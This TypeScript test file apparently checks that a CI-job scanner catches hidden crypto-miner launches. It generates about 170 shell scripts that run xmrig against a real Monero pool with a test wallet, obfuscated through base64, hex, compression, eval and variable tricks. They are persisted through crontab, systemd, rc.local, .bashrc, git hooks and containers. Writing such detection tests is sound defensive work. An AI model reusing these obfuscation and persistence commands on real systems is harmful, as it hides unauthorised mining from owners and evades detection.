// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell texts are full of them.
/** Ways to keep a miner's words from standing in the open, in a shell: each is seen through. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { scanJob } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const W = testAddress('monero', 1);
const P = 'pool.supportxmr.com:443';
const GO = `-o ${P} -u ${W}`;
const MINE = `./xmrig ${GO} -p x`;

const b64 = (data: string | Uint8Array): string => Buffer.from(data).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const reversed = (text: string): string => [...text].reverse().join('');
const rot13 = (text: string): string =>
  text.replace(/[a-zA-Z]/g, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
const B = b64(MINE);
const H = hex(MINE);
const octal = (text: string): string =>
  [...text].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const TEMPLATE = './xmrig -o POOL -u WALLET';
const SUPERVISED = '/etc/supervisor/conf.d/a.conf';

const CASES: readonly (readonly [technique: string, script: string])[] = [
  ['var concat', `a=./xm; b=rig; c="-o pool.support"; d="xmr.com:443"; $a$b $c$d -u ${W} -p x`],
  ['quotes', `./x"m"r'i'g -o pool.supp""ortxmr.com:443 -u ${W} -p x`],
  ['ansi c', `$'\\x2e\\x2f\\x78mrig' ${GO}`],
  ['heredoc sh', `sh <<'E'\n${MINE}\nE`],
  ['printf octal', `printf '${octal(MINE)}' | sh`],
  ['echo -e hex', `echo -e '${H.replace(/../g, '\\x$&')}' | bash`],
  ['b64', `echo ${B} | base64 -d | sh`],
  ['b64 x3', `echo ${b64(b64(b64(MINE)))} | base64 -d | base64 -d | base64 -d | sh`],
  ['openssl enc', `echo ${B} | openssl enc -base64 -d -A | sh`],
  ['openssl base64', `openssl base64 -d <<< ${B} | sh`],
  ['awk system', `awk 'BEGIN{system("${MINE}")}'`],
  ['xxd', `echo ${H} | xxd -r -p | sh`],
  ['printf hex', `printf '${H.replace(/../g, '\\x$&')}' | sh`],
  ['hex loop', `for h in $(echo ${H} | sed 's/../& /g'); do printf "\\x$h"; done | sh`],
  ['xxd plain heredoc', `xxd -r -p <<E | sh\n${H}\nE`],
  ['gzip', `echo ${b64(gzipSync(MINE))} | base64 -d | gzip -dc | sh`],
  ['zcat', `echo ${b64(gzipSync(MINE))} | base64 -d | zcat | sh`],
  ['zstd', `echo ${b64(zstdCompressSync(Buffer.from(MINE)))} | base64 -d | zstd -dc | sh`],
  ['brotli', `echo ${b64(brotliCompressSync(MINE))} | base64 -d | brotli -dc | sh`],
  ['pigz -z', `echo ${b64(deflateSync(MINE))} | base64 -d | pigz -dz | sh`],
  ['openssl zlib', `echo ${b64(deflateSync(MINE))} | base64 -d | openssl zlib -d | sh`],
  ['zlib-flate', `echo ${b64(deflateSync(MINE))} | base64 -d | zlib-flate -uncompress | sh`],
  ['tr rot13', `echo '${rot13(MINE)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`],
  ['rev', `echo '${reversed(MINE)}' | rev | sh`],
  ['sed', `echo '${MINE.replaceAll('x', '@')}' | sed 's/@/x/g' | sh`],
  ['sed y', `echo '${MINE.replaceAll('x', '@').replaceAll('m', '%')}' | sed 'y/@%/xm/' | sh`],
  ['sed class', `echo '${MINE.replaceAll(/([a-z])/g, '$1_')}' | sed 's/_//g' | sh`],
  [
    'sed group',
    `echo '${MINE.replaceAll('xmrig', 'rigxm')}' | sed 's/\\(rig\\)\\(xm\\)/\\2\\1/' | sh`,
  ],
  ['cut', `echo 'AAAA:${MINE.replaceAll(':', ';')}' | cut -d: -f2 | tr ';' ':' | sh`],
  ['awk field', `echo 'x ${W} ./xmrig' | awk '{print $3" -o ${P} -u "$2}' | sh`],
  ['awk print', `awk 'BEGIN{print "${MINE}"}' | sh`],
  [
    'fold/paste',
    `echo '${b64(MINE)
      .match(/.{1,20}/g)
      ?.join('\n')}' | paste -sd '' | base64 -d | sh`,
  ],
  ['tac', `printf '%s\\n' '-u ${W}' '-o ${P} \\' './xmrig \\' | tac | sh`],
  ['grep line', `grep -v zzz <<E | sh\n${MINE}\nzzz\nE`],
  ['eval', `eval '${MINE}'`],
  ['eval $(…)', `eval $(echo ${B} | base64 -d)`],
  ['bash <<<', `bash <<< "$(echo ${B} | base64 -d)"`],
  ['proc subst', `bash <(echo ${B} | base64 -d)`],
  ['source proc', `source <(echo ${B} | base64 -d)`],
  ['array', `A=(./xmrig ${GO}); "\${A[@]}"`],
  [
    'array join',
    `A=(pool support xmr com); P="\${A[0]}.\${A[1]}\${A[2]}.\${A[3]}"; ./xmrig -o $P:443 -u ${W}`,
  ],
  ['assoc array', `declare -A C; C[pool]=${P}; C[w]=${W}; ./xmrig -o \${C[pool]} -u \${C[w]}`],
  ['assoc array2', `declare -A C=([pool]=${P} [w]=${W}); ./xmrig -o \${C[pool]} -u \${C[w]}`],
  ['indirect', `N=P; P=${P}; ./xmrig -o \${!N} -u ${W}`],
  ['nameref', `P=${P}; declare -n R=P; ./xmrig -o $R -u ${W}`],
  ['IFS', `IFS=_; C="./xmrig_-o_${P}_-u_${W}"; $C`],
  ['IFS var', `./xmrig\${IFS}-o\${IFS}${P}\${IFS}-u\${IFS}${W}`],
  ['brace', `{./xmrig,-o,${P},-u,${W}}`],
  ['function', `f() { ./xmrig -o $1 -u $2; }; f ${P} ${W}`],
  ['function2', `function f { "$@"; }; f ./xmrig ${GO}`],
  ['alias', `shopt -s expand_aliases; alias go='./xmrig -o ${P}'\ngo -u ${W}`],
  ['case', `case x in x) P=${P};; esac; ./xmrig -o $P -u ${W}`],
  ['loop concat', `C=; for p in ./xmrig ' -o ' ${P} ' -u ' ${W}; do C="$C$p"; done; eval "$C"`],
  ['while read', `while read l; do C="$C $l"; done <<E\n./xmrig\n-o ${P}\n-u ${W}\nE\n$C`],
  ['trap', `trap '${MINE}' EXIT`],
  ['trap func', `done() { ${MINE}; }; trap done EXIT`],
  ['nohup setsid', `nohup setsid ${MINE} >/dev/null 2>&1 &`],
  ['screen', `screen -dmS a ${MINE}`],
  ['screen sh', `screen -dm bash -c '${MINE}'`],
  ['tmux', `tmux new -d '${MINE}'`],
  ['timeout', `timeout -s KILL 5h ${MINE}`],
  ['taskset', `taskset -c 0-1 nice -n 10 chrt -b 0 ionice -c 3 ${MINE}`],
  ['env -i', `env -i PATH=$PATH A=b ${MINE}`],
  ['exec -a', `exec -a node ${MINE}`],
  ['bash exec -a', `bash -c 'exec -a node ${MINE}'`],
  ['ssh', `ssh -p 22 -o StrictHostKeyChecking=no user@localhost '${MINE}'`],
  ['ssh words', `ssh localhost ${MINE}`],
  ['ssh stdin', `ssh localhost bash -s <<E\n${MINE}\nE`],
  ['docker run', `docker run -d --rm alpine ${MINE}`],
  ['docker exec', `docker exec c sh -c '${MINE}'`],
  ['docker compose run', `docker compose run --rm app ${MINE}`],
  ['docker compose exec', `docker compose exec -T app sh -c '${MINE}'`],
  ['kubectl run', `kubectl run a --image=alpine -- ${MINE}`],
  [
    'kubectl run --command',
    `kubectl run a --image=alpine --restart=Never --command -- sh -c '${MINE}'`,
  ],
  ['kubectl exec', `kubectl -n x exec -it pod/a -c b -- ${MINE}`],
  ['su', `su - nobody -c '${MINE}'`],
  ['runuser', `runuser -u nobody -- ${MINE}`],
  ['sudo su', `sudo su root -c "${MINE}"`],
  ['sudo -i', `sudo -iu root bash -c "${MINE}"`],
  ['unshare', `unshare -r -m ${MINE}`],
  ['chroot', `chroot --userspec=a /x ${MINE}`],
  ['nsenter', `nsenter -t 1 -m -- ${MINE}`],
  ['stdbuf', `stdbuf -oL ${MINE}`],
  ['parallel', `parallel ::: '${MINE}'`],
  ['parallel args', `parallel ./xmrig -o {} -u ${W} ::: ${P}`],
  ['parallel stdin', `echo '${MINE}' | parallel`],
  ['xargs', `echo ${GO} | xargs ./xmrig`],
  ['xargs -I', `echo ${P} | xargs -I% ./xmrig -o % -u ${W}`],
  ['xargs sh', `echo "${MINE}" | xargs -I{} sh -c '{}'`],
  ['find exec', `find . -name x -exec ${MINE} \\;`],
  ['at', `echo '${MINE}' | at now`],
  ['at heredoc', `at now + 1 minute <<E\n${MINE}\nE`],
  ['batch', `batch <<< '${MINE}'`],
  ['crontab -', `(crontab -l; echo "* * * * * ${MINE}") | crontab -`],
  ['crontab file', `echo "@reboot ${MINE}" > c; crontab c`],
  [
    'systemd unit',
    `cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=${MINE}\nE\nsystemctl start a`,
  ],
  [
    'systemd unit tee',
    `sudo tee /etc/systemd/system/a.service <<E\n[Service]\nExecStart=/bin/sh -c '${MINE}'\nE`,
  ],
  ['systemd-run', `systemd-run --user --scope ${MINE}`],
  ['start-stop-daemon', `start-stop-daemon -S -b -x ./xmrig -- ${GO}`],
  ['sh stdin', `sh -s <<E\n${MINE}\nE`],
  ['pipe cat', `cat <<E | bash\n${MINE}\nE`],
  ['tee run', `echo '${MINE}' | tee x.sh >/dev/null; sh x.sh`],
  ['dd of', `echo '${MINE}' | dd of=x.sh; sh x.sh`],
  ['printf > file', `printf '%s' '${MINE}' > x; chmod 755 x; ./x`],
  [
    'cat parts',
    `echo '${B.slice(0, 40)}' > a; echo '${B.slice(40)}' > b; cat a b | base64 -d > c; sh c`,
  ],
  ['awk write', `awk 'BEGIN{print "${MINE}" > "x.sh"}'; sh x.sh`],
  ['busybox', `busybox sh -c '${MINE}'`],
  ['busybox b64', `echo ${B} | busybox base64 -d | busybox sh`],
  ['uudecode', `uudecode -o - <<'E' | sh\nbegin-base64 644 x\n${B}\n====\nE`],
  ['basenc', `echo ${B} | basenc --base64 -d | sh`],
  ['jq', `echo '{"c":"${MINE}"}' | jq -r .c | sh`],
  ['jq b64', `echo '"${B}"' | jq -r '@base64d' | sh`],
  ['arith', `printf \\\\$(printf '%03o' $((40+6))) ; ${MINE}`],
  ['arith build', `p=$((400+43)); ./xmrig -o pool.supportxmr.com:$p -u ${W}`],
  ['read -r -d', `read -r -d '' C <<E\n${MINE}\nE\nbash -c "$C"`],
  ['mapfile', `mapfile -t L <<E\n./xmrig\n-o\n${P}\n-u\n${W}\nE\n"\${L[@]}"`],
  ['printf -v', `printf -v C '%s -o %s -u %s' ./xmrig ${P} ${W}; $C`],
  ['printf %q', `printf '%q ' ./xmrig ${GO} | sh`],
  ['param @E', `C='${H.replace(/../g, '\\x$&')}'; eval "\${C@E}"`],
  [
    'substr',
    `A=abcdefghijklmnopqrstuvwxyz; \${A:23:1}\${A:12:1}\${A:17:1}\${A:8:1}\${A:6:1} ${GO}`,
  ],
  ['case mod', `C=./XMRIG; \${C,,} ${GO}`],
  ['backtick', `\`echo ./xmrig\` -o \`echo ${P}\` -u ${W}`],
  ['nested sub', `$(echo $(echo ./xm)rig) -o $(printf '%s.%s.com:443' pool supportxmr) -u ${W}`],
  ['set --', `set -- ${GO}; ./xmrig "$@"`],
  ['set -- nodash', `set ./xmrig ${GO}; $@`],
  ['getopts shift', `run() { shift; "$@"; }; run skip ${MINE}`],
  ['command substitution file', `echo '${W}' > w; ./xmrig -o ${P} -u $(cat w)`],
  ['$(<file)', `echo '${W}' > w; ./xmrig -o ${P} -u $(<w)`],
  ['env file', `echo 'W=${W}' > .env; . ./.env; ./xmrig -o ${P} -u $W`],
  ['export $(cat)', `echo 'W=${W}' > .env; export $(cat .env | xargs); ./xmrig -o ${P} -u $W`],
  ['envsubst', `export W=${W}; echo './xmrig -o ${P} -u $W' | envsubst | sh`],
  ['sed template', `echo '${TEMPLATE}' > t; sed -i 's/POOL/${P}/;s/WALLET/${W}/' t; sh t`],
  [
    'sed template2',
    `echo '${TEMPLATE}' > t; sed -e 's/POOL/${P}/' -e "s/WALLET/${W}/" t > u; sh u`,
  ],
  ['wsl', `wsl bash -c '${MINE}'`],
  ['gdb', `gdb -ex run --args ${MINE}`],
  ['ld-linux', `/lib64/ld-linux-x86-64.so.2 ${MINE}`],
  ['script -c', `script -qc '${MINE}' /dev/null`],
  ['watch', `watch -n 1 '${MINE}'`],
  ['entr', `echo x | entr -n ${MINE}`],
  ['vim', `vim -c ':!${MINE}' -c ':q'`],
  ['git alias', `git -c alias.x='!${MINE}' x`],
  ['git config alias', `git config alias.x '!${MINE}' && git x`],
  ['tar checkpoint', `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='${MINE}'`],
  ['npm exec -c', `npm exec -c '${MINE}'`],
  ['npx -c', `npx -c '${MINE}'`],
  ['flock -c', `flock /tmp/l -c '${MINE}'`],
  ['poetry run', `poetry run ${MINE}`],
  ['bundle exec', `bundle exec ${MINE}`],
  ['nix-shell --run', `nix-shell -p hello --run '${MINE}'`],
  ['nix develop -c', `nix develop -c ${MINE}`],
  ['hyperfine', `hyperfine '${MINE}'`],
  ['concurrently', `npx concurrently '${MINE}' 'true'`],
  ['start-server', `npx start-server-and-test '${MINE}' http://x 'true'`],
  ['wine', `wine ./xmrig.exe ${GO}`],
  ['pm2', `pm2 start ./xmrig -- ${GO}`],
  ['forever', `forever start -c ./xmrig -- ${GO}`],
  ['supervisor', `cat > ${SUPERVISED} <<E\n[program:a]\ncommand=${MINE}\nE\nsupervisorctl update`],
  ['rc.local', `echo '${MINE}' >> /etc/rc.local`],
  ['bashrc', `echo '${MINE}' >> ~/.bashrc; bash -l -c true`],
  [
    'git hook',
    `echo '${MINE}' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; git checkout x`,
  ],
  ['BASH_ENV', `echo '${MINE}' > e; BASH_ENV=e bash -c true`],
  ['PROMPT_COMMAND', `export PROMPT_COMMAND='${MINE}'`],
  ['coproc', `coproc ${MINE}`],
];

for (const [technique, script] of CASES) {
  test(`seen through: ${technique}`, () => {
    const report = scanJob({ scripts: [script] });
    assert.equal(report.verdict, 'confirmed', `${script}\n${JSON.stringify(report, null, 1)}`);
  });
}
